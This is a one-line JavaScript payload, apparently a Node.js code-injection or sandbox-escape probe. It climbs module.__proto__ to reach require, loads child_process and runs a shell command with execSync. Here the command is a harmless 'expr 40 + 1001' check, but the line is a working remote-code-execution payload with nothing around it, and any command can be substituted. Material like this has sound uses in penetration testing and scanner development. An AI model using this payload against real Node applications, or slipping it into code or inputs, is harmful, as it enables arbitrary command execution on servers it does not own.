module.__proto__.require.call(module,'child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
